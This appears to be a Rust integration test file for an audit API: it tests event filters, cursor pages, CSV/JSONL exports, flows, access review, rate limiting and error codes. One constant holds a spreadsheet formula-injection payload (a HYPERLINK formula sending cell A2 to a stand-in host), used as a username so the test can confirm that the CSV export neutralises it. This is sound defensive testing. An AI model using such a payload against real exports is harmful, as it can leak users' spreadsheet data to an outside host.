//! The auditor API against a real slapd and a real SQLite file: filters, cursor pages, streamed
//! CSV/JSONL, flows, access review, bad parameters, and the events these journeys must leave.
#![allow(clippy::unwrap_used, clippy::too_many_lines)]

use crate::common;
use crate::common::harness;
use crate::common::steps::step_async;
use crate::common::store_db::audit_of;

use common::audit_events::{at_site, flow, session_started};
use serde_json::json;
use sesame::audit::{AuditEvent, AuditFilter, Outcome};
use sesame::store::Store;

fn ids(events: &[AuditEvent]) -> Vec<i64> {
    events.iter().map(|e| e.id).collect()
}

/// Auditor API: filters, cursor pages, streamed CSV (neutralised) and JSONL (verbatim), flows,
/// access review, bad parameters; and the events it must produce: auth.logout,
/// auth.rate_limited, failed device.rotated, audit.read, quiet directory.sync.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_queries_exports_and_the_events_they_need() {
    use harness::{error_of, laptop_key, Harness};
    use serde_json::Value;
    use sesame::time::ManualClock;
    use std::sync::Arc;

    const FORMULA: &str = r#"=HYPERLINK("https://x/?"&A2;"x")"#;
    let h = Harness::start().await;
    let auditor = h.login("cgarnier").await;
    let it = h.login("tleroux").await;
    let code = h.code_for(&it, "mdupont", "portable-marie").await;
    let (key, _) = laptop_key();
    let cfg: Value = h.enrol(&code, "mdupont", &key).await.json().await.unwrap();
    let device_id = cfg["device_id"].as_i64().unwrap();
    let token = cfg["device_token"].as_str().unwrap().to_string();
    let get = |path: String| {
        let c = auditor.clone();
        let url = h.url(&path);
        async move { c.get(url).send().await.unwrap() }
    };

    step_async(
        "a refused rotation (the gateway's own key) is audited with its reason",
        async {
            let gw = base64_of(&harness::GATEWAY_KEY);
            let r = reqwest::Client::new()
                .post(h.url("/api/v1/device/rotate"))
                .bearer_auth(&token)
                .json(&json!({"public_key": gw}))
                .send()
                .await
                .unwrap();
            assert_eq!(error_of(r).await, (400, "invalid_public_key".into()));
            let failed = one(&h.store, "device.rotated").await;
            assert_eq!(failed.outcome, Outcome::Failure);
            assert_eq!(
                (failed.actor.as_str(), failed.target.clone()),
                ("mdupont", format!("device:{device_id}"))
            );
            assert_eq!(failed.source_ip.as_deref(), Some("127.0.0.1"));
            assert_eq!(failed.details["reason"], "invalid_public_key");
            assert_eq!(failed.details["username"], "mdupont");
            assert_eq!(failed.details["old_public_key"], key.as_str());
        },
    )
    .await;

    step_async("logout closes the session and is audited", async {
        let r = it.post(h.url("/api/v1/logout")).send().await.unwrap();
        assert_eq!(r.status(), 204);
        let logout = one(&h.store, "auth.logout").await;
        assert_eq!(
            (logout.actor.as_str(), logout.target.as_str()),
            ("tleroux", "tleroux")
        );
        assert_eq!(
            (logout.outcome, logout.source_ip.as_deref()),
            (Outcome::Success, Some("127.0.0.1"))
        );
        assert!(logout.details["session_started_at"]
            .as_str()
            .unwrap()
            .ends_with('Z'));
        // A second logout with the dead cookie records nothing more.
        it.post(h.url("/api/v1/logout")).send().await.unwrap();
        assert_eq!(count(&h.store, "auth.logout").await, 1);
    })
    .await;

    step_async(
        "a failed login with a formula as username, then failures until the address is limited",
        async {
            let login = |user: &'static str| {
                let url = h.url("/api/v1/login");
                async move {
                    reqwest::Client::new()
                        .post(url)
                        .json(&json!({"username": user, "password": "faux"}))
                        .send()
                        .await
                        .unwrap()
                }
            };
            assert_eq!(login(FORMULA).await.status(), 401);
            for _ in 0..4 {
                assert_eq!(login("mdupont").await.status(), 401);
            }
            assert_eq!(
                error_of(login("mdupont").await).await,
                (429, "too_many_attempts".into())
            );
            let limited = one(&h.store, "auth.rate_limited").await;
            assert_eq!(
                (limited.actor.as_str(), limited.target.as_str()),
                ("mdupont", "mdupont")
            );
            assert_eq!(
                (limited.outcome, limited.source_ip.as_deref()),
                (Outcome::Denied, Some("127.0.0.1"))
            );
            assert_eq!(limited.details["route"], "login");
            assert_eq!(limited.details["key"], "ip:127.0.0.1");
            assert_eq!(limited.details["keys"], json!(["ip:127.0.0.1"]));
            assert!(limited.details["retry_after_secs"].as_u64().unwrap() >= 1);
        },
    )
    .await;

    let cursors = step_async(
        "JSON pages with a cursor: 7 logins (2 successes, 5 failures), 2 per page",
        async {
            let (mut cursor, mut seen, mut pages, mut cursors) =
                (String::new(), Vec::new(), 0, Vec::new());
            loop {
                let page: Value = get(format!(
                    "/api/v1/audit/events?action=auth.login&limit=2&cursor={cursor}"
                ))
                .await
                .json()
                .await
                .unwrap();
                pages += 1;
                for e in page["events"].as_array().unwrap() {
                    seen.push(e["id"].as_i64().unwrap());
                }
                match page["next_cursor"].as_str() {
                    Some(c) => {
                        cursor = c.to_string();
                        cursors.push(cursor.clone());
                    }
                    None => break,
                }
            }
            let stored = ids(&audit_of(&h.store, "auth.login").await);
            assert_eq!((seen.len(), pages), (7, 4));
            assert_eq!(seen, stored);
            cursors
        },
    )
    .await;

    step_async(
        "CSV: the formula is neutralised; JSONL: verbatim, and each line re-hashes to its hash",
        async {
            let r = get("/api/v1/audit/events?format=csv&action=auth.login&outcome=denied".into())
                .await;
            assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
            let body = r.text().await.unwrap();
            let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(body.as_bytes())
                .records()
                .map(|r| r.unwrap())
                .collect();
            assert_eq!(rows.len(), 5);
            assert_eq!(&rows[0][2], format!("'{FORMULA}"), "actor cell neutralised");
            assert_eq!(
                &rows[0][4],
                format!("'{FORMULA}"),
                "target cell neutralised"
            );
            assert_eq!(&rows[1][2], "mdupont");
            let r =
                get("/api/v1/audit/events?format=jsonl&action=auth.login&outcome=denied".into())
                    .await;
            let body = r.text().await.unwrap();
            let lines: Vec<Value> = body
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect();
            assert_eq!(lines.len(), 5);
            assert_eq!(lines[0]["actor"], FORMULA);
            for l in &lines {
                let e = sesame::audit::AuditEvent {
                    id: l["id"].as_i64().unwrap(),
                    ts: sesame::time::parse("ts", l["ts"].as_str().unwrap(), 0).unwrap(),
                    actor: l["actor"].as_str().unwrap().into(),
                    action: l["action"].as_str().unwrap().into(),
                    target: l["target"].as_str().unwrap().into(),
                    outcome: Outcome::parse(l["outcome"].as_str().unwrap()).unwrap(),
                    source_ip: l["source_ip"].as_str().map(str::to_string),
                    details: l["details"].clone(),
                    prev_hash: l["prev_hash"].as_str().unwrap().into(),
                    hash: l["hash"].as_str().unwrap().into(),
                };
                assert_eq!(e.compute_hash(), e.hash, "line {} verifies", e.id);
            }
        },
    )
    .await;

    step_async("every query above was audited: who, which query, which filter", async {
        let reads = h
            .store
            .list_audit(&AuditFilter {
                action: Some("audit.read".into()),
                user: Some("cgarnier".into()),
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(reads.len(), 4 + 2, "4 pages, 2 exports");
        let export = &reads[4];
        assert_eq!(
            (export.target.as_str(), export.source_ip.as_deref()),
            ("audit:export", Some("127.0.0.1"))
        );
        assert_eq!(
            export.details,
            json!({"query": "export", "format": "csv", "filter": {"action": "auth.login", "outcome": "denied"}})
        );
        // The second page's read names the cursor it was given.
        assert_eq!(reads[1].details["filter"]["cursor"], cursors[0].as_str());
        assert_eq!(
            reads[0].details,
            json!({"query": "events", "format": "json", "filter": {"action": "auth.login"}})
        );
    }).await;

    step_async("flows and access review through the API", async {
        let t = h.store.now_ms();
        h.store
            .append_audit_bulk(&[
                (
                    t,
                    flow(Some(device_id), Some("mdupont"), "paie", t - 120_000, 4_000),
                ),
                (
                    t,
                    flow(Some(device_id), Some("mdupont"), "paie", t - 60_000, 1_000),
                ),
                (
                    t,
                    flow(Some(device_id), Some("mdupont"), "rh", t - 60_000, 1_000),
                ),
            ])
            .await
            .unwrap();
        let v: Value = get("/api/v1/audit/flows?resource=paie&since=2000-01-01".into())
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(v["resource"], "paie");
        assert_eq!(v["flows"].as_array().unwrap().len(), 1);
        assert_eq!(v["flows"][0]["username"], "mdupont");
        assert_eq!(v["flows"][0]["device_id"], device_id);
        // Named as IT named the device, on the site of the resource (`sesame serve`'s own).
        assert_eq!(v["flows"][0]["device_name"], "portable-marie");
        assert_eq!(v["flows"][0]["site"], "local");
        assert_eq!(
            (
                v["flows"][0]["bytes"].as_u64(),
                v["flows"][0]["windows"].as_u64()
            ),
            (Some(5_000), Some(2))
        );
        let csv_text = get("/api/v1/audit/flows?resource=paie&format=csv".into())
            .await
            .text()
            .await
            .unwrap();
        assert!(csv_text.starts_with(
            "username,device_id,device_name,site,peer,first_seen,last_seen,bytes,packets,bytes_out,bytes_in,windows\n"
        ));
        assert!(csv_text.contains(&format!(
            "mdupont,{device_id},portable-marie,local,device:{device_id}:mdupont,"
        )));
        let v: Value = get("/api/v1/audit/access-review?resource=paie".into())
            .await
            .json()
            .await
            .unwrap();
        let entries = v["entries"].as_array().unwrap();
        assert_eq!(entries.len(), 1, "{v}");
        assert_eq!((&v["total"], &v["next_cursor"]), (&json!(1), &Value::Null), "every entry, without limit");
        assert_eq!(entries[0]["username"], "mdupont");
        assert_eq!(entries[0]["device_name"], "portable-marie");
        assert_eq!(
            entries[0]["via"][0]["group"]
                .as_str()
                .map(str::to_lowercase)
                .as_deref(),
            Some("cn=gestionnaires-paie,ou=groups,dc=academie,dc=test")
        );
        assert_eq!(entries[0]["via"][0]["grants"], json!([1]));
        assert_eq!(entries[0]["last_flow"]["bytes"], 1_000);
        // A resource without a site is `sesame serve`'s own gateway's.
        assert_eq!(entries[0]["site"], "local");
        let v: Value = get("/api/v1/audit/access-review?site=local".into())
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(v["site"], "local");
        let sites: Vec<(&str, &str)> = v["entries"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| (e["resource"].as_str().unwrap(), e["site"].as_str().unwrap()))
            .collect();
        assert_eq!(sites, [("paie", "local")], "{v}");
        let v: Value = get("/api/v1/audit/access-review?user=mdupont".into())
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(v["user"], "mdupont");
        assert_eq!(v["entries"].as_array().unwrap().len(), 1, "paie only: {v}");
        let csv_text = get("/api/v1/audit/access-review?resource=paie&format=csv".into())
            .await
            .text()
            .await
            .unwrap();
        assert!(csv_text.starts_with("resource,site,username,display_name,device_id,"));
        assert!(csv_text.contains("\npaie,local,mdupont,"), "{csv_text}");
        let reads = audit_of(&h.store, "audit.read").await;
        let last = reads.last().unwrap();
        assert_eq!(
            (last.actor.as_str(), last.target.as_str()),
            ("cgarnier", "audit:access_review")
        );
        assert_eq!(
            last.details,
            json!({"query": "access_review", "format": "csv", "filter": {"resource": "paie"}})
        );
        assert!(reads.iter().any(|e| e.details == json!({"query": "flows", "format": "json", "filter": {"resource": "paie", "since": "2000-01-01"}})));
    }).await;

    step_async(
        "the site filter: JSON pages, CSV export and the log page",
        async {
            let t = h.store.now_ms();
            h.store
                .append_audit_bulk(&[
                    (
                        t,
                        at_site(session_started(device_id, "mdupont", t - 1_000), "dsden56"),
                    ),
                    (
                        t,
                        at_site(
                            flow(Some(device_id), Some("mdupont"), "app56", t - 1_000, 700),
                            "dsden56",
                        ),
                    ),
                    (
                        t,
                        at_site(
                            flow(Some(device_id), Some("mdupont"), "paie", t - 1_000, 900),
                            "rectorat",
                        ),
                    ),
                ])
                .await
                .unwrap();
            let all = h.store.list_audit(&AuditFilter::default()).await.unwrap();
            let of = |site: &str| -> Vec<i64> {
                all.iter()
                    .filter(|e| e.details["site"] == site)
                    .map(|e| e.id)
                    .collect()
            };
            let page_ids = |v: &Value| -> Vec<i64> {
                v["events"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|e| e["id"].as_i64().unwrap())
                    .collect()
            };
            let v: Value = get("/api/v1/audit/events?site=dsden56".into())
                .await
                .json()
                .await
                .unwrap();
            assert_eq!(page_ids(&v), of("dsden56"));
            assert_eq!(of("dsden56").len(), 2);
            let v: Value = get("/api/v1/audit/events?site=rectorat&action=flow.allowed".into())
                .await
                .json()
                .await
                .unwrap();
            assert_eq!(page_ids(&v), of("rectorat"));
            // `local`: the events without a site, here the local gateway's flows of the step above.
            let v: Value = get("/api/v1/audit/events?site=local&action=flow.allowed".into())
                .await
                .json()
                .await
                .unwrap();
            let local_flows: Vec<i64> = all
                .iter()
                .filter(|e| e.action == "flow.allowed" && e.details.get("site").is_none())
                .map(|e| e.id)
                .collect();
            assert_eq!(local_flows.len(), 3);
            assert_eq!(page_ids(&v), local_flows);
            let csv_text = get("/api/v1/audit/events?site=dsden56&format=csv".into())
                .await
                .text()
                .await
                .unwrap();
            assert_eq!(csv_text.lines().count(), 1 + 2, "{csv_text}");
            let html = get("/audit/log?site=dsden56".into())
                .await
                .text()
                .await
                .unwrap();
            assert!(
                html.contains(
                    r#"name="site" type="text" list="sites" placeholder="local" value="dsden56""#
                ),
                "the form keeps the site: {html}"
            );
            assert!(
                html.contains("/api/v1/audit/events?format=csv&amp;site=dsden56"),
                "the export links carry it: {html}"
            );
            for id in of("dsden56") {
                assert!(
                    html.contains(&format!("<td>{id}</td>")),
                    "event {id}: {html}"
                );
            }
            let other = of("rectorat")[0];
            assert!(!html.contains(&format!("<td>{other}</td>")), "{html}");
            let reads = audit_of(&h.store, "audit.read").await;
            assert_eq!(
                reads[reads.len() - 1].details,
                json!({"query": "events", "format": "html", "filter": {"site": "dsden56"}})
            );
        },
    )
    .await;

    step_async("bad parameters: clear errors, stable codes", async {
        for (path, status, code) in [
            ("/api/v1/audit/events?cursor=garbage", 400, "invalid_cursor"),
            ("/api/v1/audit/events?limit=10001", 400, "invalid_limit"),
            ("/api/v1/audit/events?since=hier", 400, "invalid_time"),
            (
                "/api/v1/audit/events?action=auth.nope",
                400,
                "unknown_action",
            ),
            ("/api/v1/audit/events?format=xml", 400, "invalid_format"),
            ("/api/v1/audit/events?bogus=1", 400, "bad_request"),
            ("/api/v1/audit/flows", 400, "bad_request"),
            (
                "/api/v1/audit/access-review",
                400,
                "resource_or_user_required",
            ),
            (
                "/api/v1/audit/access-review?resource=paie&user=x",
                400,
                "resource_or_user_required",
            ),
            (
                "/api/v1/audit/access-review?resource=compta",
                404,
                "unknown_resource",
            ),
            (
                "/api/v1/audit/access-review?site=local&user=x",
                400,
                "resource_or_user_required",
            ),
            (
                "/api/v1/audit/access-review?site=nowhere",
                400,
                "unknown_site",
            ),
            (
                "/api/v1/audit/access-review?resource=paie&limit=0",
                400,
                "invalid_limit",
            ),
            (
                "/api/v1/audit/access-review?resource=paie&cursor=after",
                400,
                "invalid_cursor",
            ),
        ] {
            assert_eq!(
                error_of(get(path.into()).await).await,
                (status, code.into()),
                "{path}"
            );
        }
    })
    .await;

    step_async(
        "directory sync: a pass that changes nothing is recorded, at most once per hour",
        async {
            // It re-reads the device owner and the signed-in auditor (sessions follow groups).
            h.sync().sync_once().await.unwrap();
            h.sync().sync_once().await.unwrap();
            assert_eq!(count(&h.store, "directory.sync").await, 1);
            let quiet = one(&h.store, "directory.sync").await;
            assert_eq!(
                quiet.details,
                json!({
                    "checked": 2,
                    "groups_changed": 0,
                    "devices_suspended": 0,
                    "devices_restored": 0,
                    "devices_revoked": 0,
                    "confirmed": false,
                    "changed": false
                })
            );
            let later =
                h.sync()
                    .with_store(h.store.clone().with_clock(Arc::new(ManualClock::new(
                        h.store.now_ms() + 3_600_000 + 1_000,
                    ))));
            later.sync_once().await.unwrap();
            assert_eq!(count(&h.store, "directory.sync").await, 2);
        },
    )
    .await;
}

/// One event shows the very same `ts` (RFC 3339, UTC, milliseconds always) in the JSON page,
/// the CSV and JSONL exports of the API, the audit log page and `sesame audit export --format
/// csv|jsonl` (DESIGN §6). Half a second past the minute: RFC 3339's shortest form (`…:00.5Z`)
/// or a display for people would differ.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_event_shows_the_same_ts_in_json_csv_jsonl_the_page_and_the_cli() {
    use sesame::audit::{Action, AuditContext, NewAuditEvent};
    use sesame::time::ManualClock;
    use std::sync::Arc;

    const AT: i64 = 1_767_603_600_500; // 2026-01-05T09:00:00.500Z
    const TS: &str = "2026-01-05T09:00:00.500Z";
    let h = harness::Harness::start().await;
    let at = h.store.clone().with_clock(Arc::new(ManualClock::new(AT)));
    let ev = NewAuditEvent::new(
        Action::ConfigReloaded,
        &AuditContext::new("horloge", None),
        "config",
    );
    let stored = at.append_audit(&ev).await.unwrap();
    assert_eq!(stored.ts, AT);

    let auditor = h.login("cgarnier").await;
    let get = |path: &str| {
        let (c, url) = (auditor.clone(), h.url(path));
        async move {
            let r = c.get(url).send().await.unwrap();
            assert_eq!(r.status(), 200);
            r.text().await.unwrap()
        }
    };
    let filter = "user=horloge&action=config.reloaded";
    let page: serde_json::Value =
        serde_json::from_str(&get(&format!("/api/v1/audit/events?{filter}")).await).unwrap();
    let json_ts = page["events"][0]["ts"].as_str().unwrap().to_string();
    let api_csv_ts = csv_ts(&get(&format!("/api/v1/audit/events?{filter}&format=csv")).await);
    let api_jsonl_ts = jsonl_ts(&get(&format!("/api/v1/audit/events?{filter}&format=jsonl")).await);
    let html = get(&format!("/audit/log?{filter}")).await;

    let config = h.dir.path().join("sesame.toml");
    let cli = |format: &str| {
        crate::common::cli::sesame(&["audit", "export", "--user", "horloge", "--format", format])
            .config(&config)
            .ok()
    };
    let cli_csv_ts = csv_ts(&cli("csv"));
    let cli_jsonl_ts = jsonl_ts(&cli("jsonl"));

    for (what, ts) in [
        ("JSON", &json_ts),
        ("CSV", &api_csv_ts),
        ("JSONL", &api_jsonl_ts),
        ("CLI CSV", &cli_csv_ts),
        ("CLI JSONL", &cli_jsonl_ts),
    ] {
        assert_eq!(ts, TS, "{what}");
    }
    assert!(
        html.contains(&format!(">{TS}<")),
        "the log page shows {TS}: {html}"
    );
}

/// `ts` of the only event of a CSV export.
fn csv_ts(body: &str) -> String {
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{body}");
    rows[0][1].to_string()
}

/// `ts` of the only event of a JSONL export.
fn jsonl_ts(body: &str) -> String {
    let lines: Vec<serde_json::Value> = body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1, "{body}");
    lines[0]["ts"].as_str().unwrap().to_string()
}

fn base64_of(k: &[u8; 32]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(k)
}

async fn count(store: &Store, action: &str) -> usize {
    store
        .list_audit(&AuditFilter {
            action: Some(action.into()),
            ..Default::default()
        })
        .await
        .unwrap()
        .len()
}

/// The only (or last) event of `action`.
async fn one(store: &Store, action: &str) -> sesame::audit::AuditEvent {
    store
        .list_audit(&AuditFilter {
            action: Some(action.into()),
            ..Default::default()
        })
        .await
        .unwrap()
        .pop()
        .unwrap_or_else(|| panic!("no {action} event"))
}
